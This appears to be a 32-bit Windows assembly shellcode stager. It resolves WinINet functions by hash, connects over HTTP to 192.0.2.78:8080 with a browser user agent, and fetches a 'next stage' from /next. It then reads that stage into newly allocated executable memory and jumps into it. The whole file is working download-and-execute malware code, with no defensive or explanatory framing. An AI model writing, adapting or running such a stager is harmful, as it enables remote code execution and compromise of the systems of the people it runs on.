; Windows, 32 bit: asks a server for its next stage as a browser would (wininet), reads it into new memory, jumps there.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH open, 'InternetOpenA'
HASH connect_to, 'InternetConnectA'
HASH request, 'HttpOpenRequestA'
HASH send, 'HttpSendRequestA'
HASH read, 'InternetReadFile'
HASH allocate, 'VirtualAlloc'
        RESOLVER
        LOAD library
        mov esi, eax
        xor edi, edi
        push edi
        push edi
        push edi
        push edi
        lea eax, AT(agent)
        push eax
        CALL_API esi, open
        push edi
        push edi
        push byte 3             ; INTERNET_SERVICE_HTTP
        push edi
        push edi
        push dword 8080
        lea ecx, AT(server)
        push ecx
        push eax
        CALL_API esi, connect_to
        push edi
        push dword 0x84400200
        push edi
        push edi
        push edi
        lea ecx, AT(object)
        push ecx
        push edi
        push eax
        CALL_API esi, request
        push eax
        push edi
        push edi
        push edi
        push edi
        push eax
        CALL_API esi, send
        pop ecx
        push ecx
        push byte 0x40
        push dword 0x1000
        push dword 0x4000
        push edi
        CALL_API ebx, allocate
        pop ecx
        mov edi, eax
        push eax
        push esp
        push dword 0x2000
        push edi
        push ecx
        CALL_API esi, read
        pop eax
        jmp edi
library: db 'wininet', 0
agent:  db 'Mozilla/5.0', 0
server: db '192.0.2.78', 0
object: db '/next', 0
